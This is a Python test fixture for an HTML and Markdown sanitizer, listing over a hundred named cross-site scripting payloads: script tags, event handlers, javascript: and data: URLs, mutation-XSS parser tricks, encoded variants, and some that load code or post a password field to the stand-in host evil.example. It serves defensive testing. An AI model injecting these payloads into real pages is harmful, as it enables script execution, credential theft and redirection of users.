"""Markup that runs, loads, submits or restyles something unless it is sanitized."""

from __future__ import annotations

from tests.shared import read_cases

#: Name of the mechanism → text. Each text is dangerous unless it is sanitized.
MARKUP = {
    # scripts
    "script": "<script>alert(1)</script>",
    "script in mixed case": "<sCRipt>alert(1)</ScriPT>",
    "script with odd white space": "<script\f\n/>alert(1)</script\t>",
    "script that nothing closes": "Ferries<script>alert(1)",
    "script from another host": "<script src=//evil.example/a.js></script>",
    "script as a module": "<script type=module>import('//evil.example/a.js')</script>",
    "script inside a script's name": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after an empty comment": "<!--><script>alert(1)</script>-->",
    "script after a comment closed by a bang": "<!-- a --!><script>alert(1)</script>-->",
    "script after an instruction": "<?php ><script>alert(1)</script>?>",
    "script after a declaration": "<!ENTITY ><script>alert(1)</script>",
    "script after CDATA": "<![CDATA[ ><script>alert(1)</script>]]>",
    "script in a link's text": "[<script>alert(1)</script>](/tides/)",
    "script in a table": "<table><script>alert(1)</script><tr><td>tide</table>",
    # out of the place where a text stands
    "out of a quoted value": '"><script>alert(1)</script>',
    "out of a value in single quotes": "'><img src=x onerror=alert(1)>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a text field": "</textarea><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of CDATA": "]]><script>alert(1)</script>",
    "out of the page": "</p></article></main></body><script>alert(1)</script>",
    # handlers
    "handler of an error": "<img src=x onerror=alert(1)>",
    "handler behind slashes": "<div><img/src='x'/onerror=alert(1)/></div>",
    "handler without a space before it": '<div><img src="x"onerror="alert(1)"></div>',
    "handler with line breaks": "<div><img src=x\nonerror\n=\nalert(1)\n></div>",
    "handler in capitals in an open tag": "<DIV ONCLICK=alert(1)><IMG SRC=x ONERROR=alert(1) ",
    "handler of references": "<img src=x onerror=&#x61;lert&lpar;1&rpar;>",
    "handler given twice": '<b onclick="alert(1)" onclick="">tide</b>',
    "handler with focus": "<a href=/x onfocus=alert(1) autofocus>tide</a>",
    "handler of a toggle": "<details open ontoggle=alert(1)><summary>tide</summary></details>",
    "handler of an animation": "<p class=x onanimationstart=alert(1)>tide</p>",
    "handler of a film": "<video src=x onerror=alert(1)></video>",
    "handler in an unknown element": "<tide-gate tabindex=0 onfocus=alert(1)>tide</tide-gate>",
    "handler on a table cell": "<table><tr><td onmouseover=alert(1)>tide</td></tr></table>",
    "handler behind a value that looks closed": "<p title=' \">' onclick='alert(1)'>tide</p>",
    "handler after grave accents": "<div><img src=`x` onerror=alert(1)></div>",
    # addresses that run
    "address of a script": '<a href="javascript:alert(1)">tide</a>',
    "address in mixed case": '<a href="jAvAscRIPT:alert(1)">tide</a>',
    "address after control characters": '<a href="&#1;&#31; javascript:alert(1)">tide</a>',
    "address with a tab": '<a href="java\tscript:alert(1)">tide</a>',
    "address with named white space": '<a href="java&Tab;scr&NewLine;ipt&colon;alert(1)">tide</a>',
    "address of decimal references": "<a href=&#106&#97&#118&#97script:alert(1)>tide</a>",
    "address of padded references": '<a href="&#x00006A;avascript:alert(1)">tide</a>',
    "address without quotes": "<a href=javascript:alert(1)>tide</a>",
    "address of a document": '<a href="data:text/html,<script>alert(1)</script>">tide</a>',
    "address of a packed document": "<a href=data:text/html;base64,PGI+>tide</a>",
    "address of Visual Basic": "<a href=vbscript:msgbox(1)>tide</a>",
    "address of a file": "<a href=file:///etc/passwd>tide</a>",
    "address of a blob": "<a href=blob:https://evil.example/1>tide</a>",
    "address of a page's source": "<a href='view-source:javascript:alert(1)'>tide</a>",
    "address of a picture": "<img src='javascript:alert(1)'>",
    "address of a drawing with a script": (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"'
        ' onload="alert(1)"/>\'>'
    ),
    "address of a quotation": "<blockquote cite=javascript:alert(1)>tide</blockquote>",
    "link of Markdown": "[tide](javascript:alert(1))",
    "link with a reference in its scheme": "[tide](java&#115;cript:alert(1))",
    "link in angle brackets": "[tide](<javascript:alert('1 2')>)",
    "link by name": "[tide][a]\n\n[a]: javascript:alert(1)",
    "link of bare brackets": "<javascript:alert(1)>",
    "picture of Markdown": "![tide](vbscript:alert(1))",
    "link in a title": '[tide](data:text/html,x "a title")',
    # style
    "style sheet": "<style>*{background:url(//evil.example/a)}</style>",
    "style sheet that imports": "<style>@import '//evil.example/a.css';",
    "style of one element": '<p style="position:fixed;inset:0;background:#fff">tide</p>',
    "style that runs in old browsers": "<p style='width:expression(alert(1))'>tide</p>",
    "style sheet from another host": "<link rel=stylesheet href=//evil.example/a.css>",
    # what changes the whole page
    "base of all links": "<base href=//evil.example/>",
    "base for frames": "<base target=_parent>",
    "another page after a while": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "another charset": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "another referrer": "<meta name=referrer content=unsafe-url>",
    "icon": "<link rel=icon href=//evil.example/a.ico>",
    # forms
    "form that runs": "<form action=javascript:alert(1)><button>tide</button></form>",
    "form to another host": "<form action=//evil.example/ method=post><input name=password></form>",
    "button with an address of its own": "<button formaction=javascript:alert(1)>tide</button>",
    "field with focus": "<input onfocus=alert(1) autofocus>",
    "field named like a property": "<form id=a></form><input form=a name=attributes>",
    "choice with focus": "<select onfocus=alert(1) autofocus><option>tide</select>",
    "dialog": "<dialog open onclose=alert(1)>tide</dialog>",
    # frames and programs
    "frame with a document": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "frame that runs": "<iframe src=javascript:alert(1)></iframe>",
    "frame of data": '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1)></object>",
    "object by its parameters": "<object><param name=src value=javascript:alert(1)></object>",
    "plug-in": "<embed src=//evil.example/a.swf allowscriptaccess=always>",
    "applet": "<applet code=a.class codebase=//evil.example/></applet>",
    "sound from data": "<audio src='data:audio/wav;base64,UklGRg=='></audio>",
    # drawings and formulas
    "drawing that loads": "<svg onload=alert(1)></svg>",
    "drawing with a script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "drawing with a link": "<svg><a xlink:href=javascript:alert(1)><text y=9>tide</text></a></svg>",
    "drawing that animates a link": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>tide</text></a>"
    ),
    "drawing that sets a handler": "<svg><set attributeName=onclick to=alert(1) /></svg>",
    "drawing that uses another": "<svg><use href='data:image/svg+xml,<svg id=a></svg>#a' /></svg>",
    "drawing with HTML inside": (
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"
    ),
    "formula with a link": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "formula with a note": (
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>"
    ),
    # what is something else when it is read again
    "template": "<template><img src=x onerror=alert(1)></template>",
    "template of a shadow": "<div><template shadowrootmode=open><script>alert(1)</script>",
    "style in a drawing": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "style cut open by a value": "<svg><style><a id='</style><img src=x onerror=alert(1)>'>",
    "paragraph that ends a drawing": "<svg><p><style><b id='</style><img src=x onerror=alert(1)>'>",
    "formula and table": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--><img src=x onerror=alert(1)>'>"
    ),
    "form in a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "text for browsers without scripts": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"
    ),
    "text field cut open by a value": (
        "<textarea><b title='</textarea><img src=x onerror=alert(1)>'></textarea>"
    ),
    "title cut open by a value": "<title><b title='</title><img src=x onerror=alert(1)>'></title>",
    "raw text": "<xmp><b title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "raw text to the end": "<plaintext><img src=x onerror=alert(1)>",
    "text of frames": "<noframes><b title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "choice that drops its tags": "<select><style></select><img src=x onerror=alert(1)></style>",
}

#: Harmless as it is. It becomes dangerous if a step decodes it again, removes characters from it or
#: writes it into an attribute without quotes.
DORMANT = {
    "references": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "references of references": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "escapes of addresses": "%3Cscript%3Ealert(1)%3C/script%3E",
    "NUL in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "zero width in a tag": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "soft hyphen in a scheme": "[tide](java\u00adscript:alert(1))",
    "byte order mark in a tag": "<\ufeffscript>alert(1)</script>",
    "wide angles": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "long s": "<\u017fcript>alert(1)</\u017fcript>",
    "escaped tag": "\\<script>alert(1)\\</script>",
    "tag in code": "`<script>alert(1)</script>`",
    "tag in a block of code": "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "value for a handler": 'x" onmouseover="alert(1)',
    "value without quotes": "x onmouseover=alert(1) y",
    "alternative text": '![x" onerror="alert(1)](x)',
    "title of a link": "[tide](/x 'a\" onmouseover=\"alert(1)')",
    "id of a heading": '## Tide {#a"onclick="alert(1)}',
    "name of a note": '[^a"onclick="b]\n\n[^a"onclick="b]: tide',
    "language of code": '```a"><script>alert(1)</script>\ntide\n```',
    "handler of the body": "<body onload=alert(1)>",
    "template of Django": "{% load x %}{{ 7|add:7 }}{% include '/etc/passwd' %}",
    "template of Go": "{{ printf `%s` .Site }}{{< safe >}}",
    "formula": "$$\\text{<b onclick=alert(1)}\\href{javascript:alert(1)}{x}$$",
    "direction": "\u202e<tpircs>)1(trela",
}

#: Name of a list → texts that no page may contain as markup.
ATTACKS = {
    "ours": [*MARKUP.values(), *DORMANT.values()],
    **{
        name: [str(case["input"]) for case in cases]
        for name in ("xss_h5sc", "xss_bleach")
        if (cases := read_cases(name))
    },
}
